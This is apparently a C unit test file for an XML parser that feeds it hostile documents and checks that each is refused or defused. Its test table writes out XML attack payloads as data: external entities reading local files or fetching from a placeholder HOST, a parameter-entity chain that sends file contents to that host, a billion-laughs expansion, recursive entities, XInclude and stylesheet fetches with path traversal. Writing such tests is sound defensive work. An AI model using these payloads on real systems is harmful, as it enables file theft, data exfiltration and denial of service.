/* Attempts of a document at whatever is outside of it. */
#include "unit/any_xml/attempt.h"

#define DTD(subset) PI "<!DOCTYPE a [" subset "]>"

/* Ten of the one before. */
#define TEN(this, last)                                                                            \
    "<!ENTITY " this " '&" last ";&" last ";&" last ";&" last ";&" last ";&" last ";&" last        \
                     ";&" last ";&" last ";&" last ";'>"
#define LAUGHS                                                                                     \
    "<!ENTITY a 'ha'>" TEN("b", "a") TEN("c", "b") TEN("d", "c") TEN("e", "d") TEN("f", "e")       \
        TEN("g", "f") TEN("h", "g") TEN("i", "h") TEN("j", "i")

static const attempt_t attempts[] = {
    {"external entity from a file", DTD("<!ENTITY e SYSTEM 'file://FILE'>") "<a>[&e;]</a>", NULL,
     APR_SUCCESS, "[]"},
    {"external entity from a path", DTD("<!ENTITY e SYSTEM 'FILE'>") "<a>[&e;]</a>", NULL,
     APR_SUCCESS, "[]"},
    {"external entity from a network", DTD("<!ENTITY e SYSTEM 'http://HOST/e'>") "<a>[&e;]</a>",
     NULL, APR_SUCCESS, "[]"},
    {"external entity by a public identifier",
     DTD("<!ENTITY e PUBLIC '-//X//Y//EN' 'http://HOST/e'>") "<a>[&e;]</a>", NULL, APR_SUCCESS,
     "[]"},
    {"external entity in an attribute", DTD("<!ENTITY e SYSTEM 'file://FILE'>") "<a b='[&e;]'/>",
     NULL, ANY_STATUS, NULL},
    {"external entity of a data URL",
     DTD("<!ENTITY e SYSTEM 'data:text/xml,SECRET'>") "<a>[&e;]</a>", NULL, APR_SUCCESS, "[]"},
    {"external entity inside another",
     DTD("<!ENTITY e SYSTEM 'file://FILE'><!ENTITY f '[&e;]'>") "<a>&f;</a>", NULL, APR_SUCCESS,
     "[]"},
    {"parameter entity from a file",
     DTD("<!ENTITY % e SYSTEM 'file://FILE'> %e;") "<a>[&secret;]</a>", NULL, ANY_STATUS, NULL},
    {"parameter entity from a network", DTD("<!ENTITY % e SYSTEM 'http://HOST/e'> %e;") "<a/>",
     NULL, ANY_STATUS, NULL},
    {"parameter entity that declares another",
     DTD("<!ENTITY % f SYSTEM 'file://FILE'><!ENTITY % e \"<!ENTITY &#37; g SYSTEM "
         "'http://HOST/%f;'>\"> %e; %g;") "<a/>",
     NULL, ANY_STATUS, NULL},
    {"external subset from a file", PI "<!DOCTYPE a SYSTEM 'file://FILE'><a>[&secret;]</a>", NULL,
     ANY_STATUS, NULL},
    {"external subset from a network", PI "<!DOCTYPE a SYSTEM 'http://HOST/a.dtd'><a>x</a>", NULL,
     APR_SUCCESS, "x"},
    {"unparsed entity",
     DTD("<!NOTATION n SYSTEM 'n'><!ENTITY e SYSTEM 'file://FILE' NDATA n><!ATTLIST a b ENTITY "
         "#IMPLIED>") "<a b='e'/>",
     NULL, APR_SUCCESS, NULL},
    {"entities that grow", DTD(LAUGHS) "<a>&j;</a>", NULL, STM_ELIMIT, NULL},
    {"entities that grow in an attribute", DTD(LAUGHS) "<a b='&j;'/>", NULL, ANY_STATUS, NULL},
    {"entities that grow while they are declared", DTD(LAUGHS "<!ATTLIST a b CDATA '&j;'>") "<a/>",
     NULL, ANY_STATUS, NULL},
    {"an entity that holds itself", DTD("<!ENTITY e '&e;'>") "<a>&e;</a>", NULL, ANY_STATUS, NULL},
    {"entities that hold each other",
     DTD("<!ENTITY e '<b>&f;</b>'><!ENTITY f '<b>&e;</b>'>") "<a>&e;</a>", NULL, ANY_STATUS, NULL},
    {"a parameter entity that holds itself", DTD("<!ENTITY % e '<!ENTITY f \"%e;\">'> %e;") "<a/>",
     NULL, ANY_STATUS, NULL},
    {"XInclude of a file",
     PI "<a xmlns:x='http://www.w3.org/2001/XInclude'><x:include href='FILE'/></a>", NULL,
     APR_SUCCESS, "include"},
    {"XInclude of a text",
     PI "<a xmlns:x='http://www.w3.org/2001/XInclude'><x:include href='FILE' parse='text'/></a>",
     NULL, APR_SUCCESS, "include"},
    {"a schema from a network",
     PI "<a xmlns:x='http://www.w3.org/2001/XMLSchema-instance' x:noNamespaceSchemaLocation="
        "'http://HOST/a.xsd'>x</a>",
     NULL, APR_SUCCESS, "x"},
    {"another instruction", PI "<?xml-model href='http://HOST/a.rng'?><a>x</a>", NULL, APR_SUCCESS,
     "x"},
    {"a base address that is a file", PI "<a xml:base='file:///'><b>FILE</b></a>",
     SHEET("<o>[<xsl:value-of select='document(string(/a/b), /a)'/>]</o>"), APR_SUCCESS, "[]"},
    {"a stylesheet from a file", "<?xml-stylesheet type='text/xsl' href='file://FILE'?><a/>", NULL,
     STM_ESTYLESHEET, NULL},
    {"a stylesheet from a network", "<?xml-stylesheet type='text/xsl' href='http://HOST/s'?><a/>",
     NULL, STM_ESTYLESHEET, NULL},
    {"a stylesheet from a host without a scheme",
     "<?xml-stylesheet type='text/xsl' href='//HOST/s'?><a/>", NULL, STM_ESTYLESHEET, NULL},
    {"a stylesheet of a data URL",
     "<?xml-stylesheet type='text/xsl' href='data:text/xsl,%3Ca/%3E'?><a/>", NULL, STM_ESTYLESHEET,
     NULL},
    {"a stylesheet of another scheme", "<?xml-stylesheet type='text/xsl' href='ftp://HOST/s'?><a/>",
     NULL, STM_ESTYLESHEET, NULL},
    {"a stylesheet above the root",
     "<?xml-stylesheet type='text/xsl' href='../../../../../FILE'?><a/>", NULL, STM_ESTYLESHEET,
     NULL},
    {"a stylesheet whose address is none", "<?xml-stylesheet type='text/xsl' href='http://['?><a/>",
     NULL, STM_ESTYLESHEET, NULL},
    {"a stylesheet inside that is not there",
     "<?xml-stylesheet type='text/xsl' href='#nowhere'?><a/>", NULL, STM_ESTYLESHEET, NULL},
    {"a stylesheet inside that writes",
     "<?xml-stylesheet type='text/xsl' href='#s'?><a><xsl:stylesheet id='s' version='1.0' "
     "xmlns:xsl='http://www.w3.org/1999/XSL/Transform' xmlns:e='http://exslt.org/common' "
     "extension-element-prefixes='e'><xsl:template match='/'><e:document href='OUT'>x</e:document>"
     "</xsl:template></xsl:stylesheet></a>",
     NULL, STM_ESTYLESHEET, NULL},
    {"an encoding that nobody needs",
     "<?xml version='1.0' encoding='UTF-7'?>" PI "<a>+ADw-b+AD4-</a>", NULL, ANY_STATUS, NULL},
    {"an encoding that escapes", "<?xml version='1.0' encoding='ISO-2022-CN-EXT'?>" PI "<a/>", NULL,
     ANY_STATUS, NULL},
    {"an encoding that is a path", "<?xml version='1.0' encoding='../../FILE'?>" PI "<a/>", NULL,
     STM_EMALFORMED, NULL},
    {"a document that ends too early", PI "<a><b>", NULL, STM_EMALFORMED, NULL},
    {"a DOCTYPE that does not end", PI "<!DOCTYPE a [<!ENTITY b 'c'><a/>", NULL, ANY_STATUS, NULL},
};

START_TEST(nothing_is_reached)
{
    run_attempt(&attempts[_i]);
}
END_TEST

/* @a piece @a count times between the other two. */
static const char *repeated(const char *before, const char *piece, int count, const char *after)
{
    apr_size_t length = strlen(piece), start = strlen(before);
    char *text = apr_palloc(pool, start + length * (apr_size_t)count + strlen(after) + 1);

    memcpy(text, before, start);
    for (int i = 0; i < count; i++) {
        memcpy(text + start + length * (apr_size_t)i, piece, length);
    }
    strcpy(text + start + length * (apr_size_t)count, after);
    return text;
}

static void refused(const char *name, const char *document)
{
    const attempt_t attempt = {name, document, NULL, STM_ELIMIT, NULL};

    run_attempt(&attempt);
}

START_TEST(depth_is_bounded)
{
    refused("deep", repeated(PI, "<a>", 100000, ""));
}
END_TEST

START_TEST(attributes_of_a_tag_are_bounded)
{
    const char *document = PI "<a";

    for (int i = 0; i < 300; i++) {
        document = apr_psprintf(pool, "%s a%d=''", document, i);
    }
    refused("attributes", apr_pstrcat(pool, document, "/>", NULL));
}
END_TEST

START_TEST(attributes_of_a_tag_in_an_entity_are_bounded)
{
    const char *document = PI "<!DOCTYPE a [<!ENTITY e '<b";

    for (int i = 0; i < 300; i++) {
        document = apr_psprintf(pool, "%s a%d=\"\"", document, i);
    }
    refused("attributes", apr_pstrcat(pool, document, "/>'>]><a>&e;</a>", NULL));
}
END_TEST

START_TEST(namespaces_in_scope_are_bounded)
{
    const char *document = PI;

    for (int i = 0; i < 150; i++) {
        document = apr_psprintf(pool, "%s<a xmlns:a%d='urn:a' xmlns:b%d='urn:b'>", document, i, i);
    }
    refused("namespaces", document);
}
END_TEST

START_TEST(namespaces_that_end_are_not_counted)
{
    const char *document =
        repeated(PI "<a>", "<r xmlns:dc='urn:d' xmlns:oai='urn:o'/>", 1000, "</a>");
    const attempt_t attempt = {"records", document, NULL, APR_SUCCESS, NULL};

    run_attempt(&attempt);
}
END_TEST

START_TEST(the_doctype_is_bounded)
{
    refused("subset", repeated(PI "<!DOCTYPE a [", "<!ENTITY b 'c'>", 5000, "]><a/>"));
}
END_TEST

START_TEST(defaults_of_a_doctype_are_bounded)
{
    const char *document = PI "<!DOCTYPE a [";

    for (int i = 0; i < 500; i++) {
        document = apr_psprintf(pool, "%s<!ATTLIST b a%d CDATA ''>", document, i);
    }
    refused("defaults",
            apr_pstrcat(pool, document, "]><a>", repeated("", "<b/>", 1000, "</a>"), NULL));
}
END_TEST

START_TEST(one_entity_that_is_long_and_often_used_is_bounded)
{
    const char *document =
        apr_pstrcat(pool, PI "<!DOCTYPE a [<!ENTITY e '", repeated("", "x", 40000, "'>]><a>"),
                    repeated("", "&e;", 100000, "</a>"), NULL);

    refused("quadratic", document);
}
END_TEST

START_TEST(elements_of_entities_are_bounded)
{
    const char *document =
        apr_pstrcat(pool, PI "<!DOCTYPE a [<!ENTITY e '", repeated("", "<b/>", 10000, "'>]><a>"),
                    repeated("", "&e;", 100000, "</a>"), NULL);

    refused("elements", document);
}
END_TEST

START_TEST(elements_are_bounded)
{
    refused("elements", repeated(PI "<a>", "<b/>", 1000000, "</a>"));
}
END_TEST

START_TEST(size_is_bounded)
{
    refused("size", repeated(PI "<a>", "xxxxxxxxxxxxxxxx", 600000, "</a>"));
}
END_TEST

static void add_tests(TCase *all)
{
    tcase_add_checked_fixture(all, set_traps, take_traps_away);
    tcase_add_loop_test(all, nothing_is_reached, 0, sizeof(attempts) / sizeof(*attempts));
    tcase_add_test(all, depth_is_bounded);
    tcase_add_test(all, attributes_of_a_tag_are_bounded);
    tcase_add_test(all, attributes_of_a_tag_in_an_entity_are_bounded);
    tcase_add_test(all, namespaces_in_scope_are_bounded);
    tcase_add_test(all, namespaces_that_end_are_not_counted);
    tcase_add_test(all, the_doctype_is_bounded);
    tcase_add_test(all, defaults_of_a_doctype_are_bounded);
    tcase_add_test(all, one_entity_that_is_long_and_often_used_is_bounded);
    tcase_add_test(all, elements_of_entities_are_bounded);
    tcase_add_test(all, elements_are_bounded);
    tcase_add_test(all, size_is_bounded);
}

UNIT_MAIN("stm_hostile_documents")
